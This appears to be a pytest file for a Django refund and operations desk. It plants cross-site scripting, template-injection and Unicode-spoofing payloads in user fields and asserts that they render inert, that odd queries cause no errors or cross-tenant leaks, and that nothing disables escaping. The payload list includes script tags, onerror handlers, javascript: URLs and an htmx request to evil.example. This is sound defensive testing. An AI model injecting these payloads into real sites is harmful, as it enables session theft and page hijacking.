"""Text that means harm, in every field that others fill in: it is shown as text, and as what it is."""

import html
import re
from html.parser import HTMLParser
from typing import Any

import pytest
from django.core.handlers import wsgi
from django.http import QueryDict
from django.test import Client

from approvals import services
from integrations.models import Customer
from opsdesk.lib import clock
from opsdesk.lib.wording import visible
from opsdesk.settings import BASE_DIR
from tests import factories
from tests.approvals.opinions import make_second_opinion
from tests.approvals.reversals import make_drill, make_reversal
from tests.approvals.thresholds import make_trial
from tests.integrations.noticing import make_notices
from tests.opsdesk.lists import make_export, make_view
from tests.plugins.line import Line, open_review_of
from tests.visits import Url, client_of, counted_once, every_url, furnish, quietly
from workflows.models import Bulk, BulkItem, Case, Event, Failure
from workflows.states import EventState

pytestmark = pytest.mark.django_db
quiet = pytest.fixture(autouse=True)(quietly)
rail = pytest.fixture(autouse=True)(counted_once)

PAYLOADS = {
    "script": "<script>window.__xss=1</script>",
    "image": '"><img src=x onerror=window.__xss=1>',
    "attribute": "x' onmouseover='window.__xss=1' y='",
    "closing tags": "</textarea></title></script><svg/onload=window.__xss=1>",
    "address": "javascript:window.__xss=1//",
    "htmx": '" hx-get="https://evil.example/" hx-trigger="load',
    "braces": "{{ 7*7 }}{% load ui %}{{ request.session }}${7*7}",
    "base": '<base href="https://evil.example/"><a href="//evil.example/">Approve</a>',
    "styles": "<!--<![CDATA[<template><style>@import'//evil.example'</style>",
    "right to left": "\u202eGBP 84.141\u202c \u2066refunded\u2069",
    "unseen": "Ada\u200b Oka\u2060for\ufeff\x1b[2J\x7f",
    "long": "W" * 10_000,
}
UNSEEN = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
# Elements that no page of the desk has, and attributes whose text is only ever shown.
NEVER = {"base", "iframe", "object", "embed", "style", "frame", "applet", "math"}
OUR_FILES = ("/static/", "/admin/jsi18n/", "/me/factors/app/picture/")
SHOWN = {"title", "value", "aria-label", "alt", "placeholder", "data-key-label"}
LEADS = {"href", "src", "action", "formaction", "hx-get", "hx-post", "hx-push-url", "data-case", "xlink:href"}
OURS = re.compile(r"/(?!/)|#|\?|$|(?:true|false)$|[0-9]+$")
MARKS = re.compile(r"__xss|evil\.example|javascript:|7\*7|WWWWWWWWWW")

# Every parameter that a page reads, and some that a careless one would hand to the database.
PARAMETERS = [
    *("q", "view", "least", "most", "text", "reason", "assignee", "after", "before", "case", "from", "shown", "idle"),
    *("seen", "follows", "stamp", "state", "waits_for", "workflow", "connection", "kind", "owner", "next", "user"),
    *("verb", "subject_kind", "period", "pk", "id", "organization", "organization_id", "case__organization", "page"),
]
TOGETHER = ("-1", "💥'\"<", "a,b.c~d", "%", "")
ALONE = ("\x00", "9" * 30)  # what a database refuses, and what is larger than any of its columns


class Harm(HTMLParser):
    """What of a page is not as our templates write it."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = {name: value or "" for name, value in attrs}
        if tag in NEVER or (tag in ("script", "img") and not named.get("src", "").startswith(OUR_FILES)):
            self.found.append(f"<{tag} {named}>")
        for name, value in named.items():
            leads_away = name in LEADS and not OURS.match(value)
            acts = MARKS.search(value) and name not in SHOWN and not (name in LEADS and OURS.match(value))
            if name.startswith("on") or MARKS.search(name) or leads_away or acts:
                self.found.append(f"<{tag} {name}={value[:60]!r}>")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        if MARKS.search(data):
            self.found.append(f"<!--{data[:60]}-->")


def suffered(line: Line, text: str) -> Case:
    """The text in every field of requests, in an unknown event, in one nobody can read, and in what people write."""
    goods = [{"sku": text, "description": text, "quantity": 1, "unit_price": "1.65"}]
    Customer.objects.create(organization=line.organization, reference="evil", name=text[:120])
    fields: dict[str, Any] = {"reason": text, "requested_by": text, "lines": goods}
    line.ask("141.48", reference=text, customer=text, order=line.paid(), payment=text, **fields)
    line.ask(text, currency=text, requested_at=text, **fields)
    line.hear("refund.invented", {"text": text})
    line.store(f'{{"type": "refund.requested", "data": {text}'.encode(errors="surrogatepass"))
    case = line.ask("141.48", customer="evil", **fields)
    line.work()
    factories.make_alert(
        line.organization, words=text[:500], note=text[:300], acknowledged_by=line.cast.ada, acknowledged_at=clock.now()
    )
    services.escalate(open_review_of(case).pk, by=line.cast.ada, text=text[:2000])
    _looked_after(line, case, text)
    return case


def _looked_after(line: Line, case: Case, text: str) -> None:
    """The text in what the gateway named, and in why people and the desk did something about many requests at once."""
    found = factories.make_reconciliation(line.organization, found=1, message=text[:300])
    factories.make_break(
        line.organization,
        found_in=found,
        reference=text[:100],
        payment_reference=text[:100],
        words=text[:300],
        reason=text[:300],
    )
    bulk = factories.make_bulk(line.organization, line.cast.maya, runs=list(case.runs.all()))
    Bulk.objects.filter(pk=bulk.pk).update(reason=text[:300], note=text[:300])
    bulk.items.update(label=text[:60], result=BulkItem.Result.REFUSED, sentence=text[:300], at=clock.now())
    factories.make_dry_run(line.organization, by=line.cast.tomasz, state="failed", note=text[:300])
    make_trial(line.organization, by=line.cast.tomasz, state="failed", note=text[:300])
    make_reversal(line.organization, by=line.cast.ben, reason=text[:200], outcome=text[:300])
    make_drill(words=text[:300])
    factories.make_setback(open_review_of(case), problem=text[:300])
    make_second_opinion(line.organization, by=line.cast.ada, asked=line.cast.maya, party_name=text[:120])
    factories.make_recovery(line.organization, ended=True, reason=text[:500])
    factories.make_absence(line.cast.ada, line.organization, days=(30, 37))
    make_notices(line.organization, line.cast, text=text)
    make_view(line.organization, line.cast.maya, name=text[:40])
    make_export(line.organization, line.cast.maya, state="failed", note=text[:300])


def pages(line: Line, case: Case) -> dict[str, str]:
    """Every page that shows what others wrote, of that case and of all others."""
    members = {"manager": line.cast.maya, "admin": line.cast.tomasz}
    found = {}
    for url in every_url():
        admin = url.route.startswith("admin/")
        if admin and not url.route.startswith(("admin/workflows/event/", "admin/auditlog/entry/")):
            continue
        for_admins = admin or url.route.startswith(("dry-runs/", "channels/"))
        client = client_of("admin" if for_admins else "manager", members)
        for address in _addresses(url, line, case):
            answer = client.get(address)
            if answer.status_code == 200 and answer.headers["Content-Type"].startswith("text/html"):
                found[address] = answer.content.decode()
    return found


def _addresses(url: Url, line: Line, case: Case) -> list[str]:
    if "hooks/" in url.route:
        return []
    if url.route.startswith("cases/"):
        return [url.address(line.organization, key=str(each.pk)) for each in Case.objects.all()]
    return [url.address(line.organization)]


def near(page: str) -> str:
    """What stands around the first character that cannot be seen."""
    text = html.unescape(page)
    found = UNSEEN.search(text)
    return text[max(0, found.start() - 80) : found.end() + 20] if found else ""


@pytest.mark.parametrize("text", PAYLOADS.values(), ids=PAYLOADS)
def test_it_is_inert_on_every_page(line, text):
    case = suffered(line, text)

    shown = pages(line, case)

    harm = {address: Harm(page).found for address, page in shown.items()}
    assert not {address: found for address, found in harm.items() if found}
    unseen = [(address, near(page)) for address, page in shown.items() if near(page)]
    assert not unseen, "\n".join(map(repr, unseen))
    # What was proved is proved of pages that do show it.
    start = visible(text)[:40]
    showing = {address.split("/")[1] for address, page in shown.items() if start in Harm(page).text}
    assert showing >= {"cases", "queue", "failures", "runs", "alerts", "admin"}
    assert showing >= {"reconciliation", "differences", "recovery", "bulk", "dry-runs", "me", "channels"}
    assert Event.objects.filter(state=EventState.QUARANTINED).exists() and Failure.objects.exists()
    assert max(len(page) for page in shown.values()) < 400_000


def test_the_parser_would_notice(client: Client):
    for name in ("script", "image", "attribute", "closing tags", "htmx", "base", "styles"):
        text = PAYLOADS[name]
        assert Harm(f"<p>{text}</p><input value=\"{text}\"><input value='{text}'>").found, name


@pytest.mark.parametrize("one_by_one", [False, pytest.param(True, marks=pytest.mark.long)])
def test_no_query_breaks_a_page_or_widens_it(monkeypatch, one_by_one):
    """Every page of the desk, asked odd things by everything that it reads of a query.

    Together: all of PARAMETERS at once, each with the same odd value or with the key of another organization, while
    it is noted what the page reads. Alone: each of these names by itself, whether PARAMETERS has it or not, because one
    that is refused may keep a page from looking at the others; with every change by what a database refuses. What no
    code of a page reads cannot change that page, so it is not tried alone there.
    """
    organization, members = furnish("ours")
    theirs, _ = furnish("theirs")
    Case.objects.filter(organization=theirs).update(party_name="Customer of theirs")
    client = client_of("manager", members)
    read = overhear(monkeypatch)

    broken, names = [], set(PARAMETERS)
    for url in every_url():
        if "<" in url.route or url.route.startswith(("admin/", "readyz")):
            continue
        read.clear()
        together = [dict.fromkeys(names, value) for value in (*TOGETHER, str(theirs.pk))]
        broken += [wrong for query in together if (wrong := trouble(client, url.address(organization), query))]
        alone = [{name: value} for name in sorted(read) for value in ALONE[: None if one_by_one else 1]]
        broken += [wrong for query in alone if (wrong := trouble(client, url.address(organization), query))]
        names |= read

    assert not broken
    assert names >= {"show", "full", "lever", "team"}, "nothing was overheard"


def trouble(client: Client, address: str, query: dict[str, str]) -> str:
    """What is wrong with the answer to a query: an error of the server, or rows of others."""
    answer = client.get(address, query)
    odd = answer.status_code >= 500 or b"of theirs" in answer.content
    return f"{answer.status_code} {address} {query}" if odd else ""


def overhear(monkeypatch: pytest.MonkeyPatch) -> set[str]:
    """A set that fills with the names of the parameters that pages read from now on."""
    read: set[str] = set()

    class Overheard(QueryDict):
        def __getitem__(self, name: str) -> Any:
            read.add(name)
            return super().__getitem__(name)

        def __contains__(self, name: object) -> bool:
            read.add(str(name))
            return super().__contains__(name)

        def getlist(self, name: str, default: Any = None) -> list[Any]:
            read.add(name)
            return super().getlist(name, default)

    monkeypatch.setattr(wsgi, "QueryDict", Overheard)
    return read


def test_nothing_switches_escaping_off():
    switch = re.compile(
        r"mark_safe|\|\s*safe\b|autoescape off|SafeString\(|format_html\(f|HttpResponse\(f|\bhtml_safe\b"
    )
    folders = ("accounts", "approvals", "auditlog", "integrations", "opsdesk", "templates", "workflows")
    files = [file for folder in folders for kind in ("py", "html") for file in (BASE_DIR / folder).rglob(f"*.{kind}")]
    lines = [line.strip() for file in files for line in file.read_text().splitlines() if switch.search(line)]

    # Icons are drawn from a package by a name that stands in a template.
    assert [line for line in lines if not line.startswith("return SafeString(lucide(name, ")] == []
    assert len(files) > 200
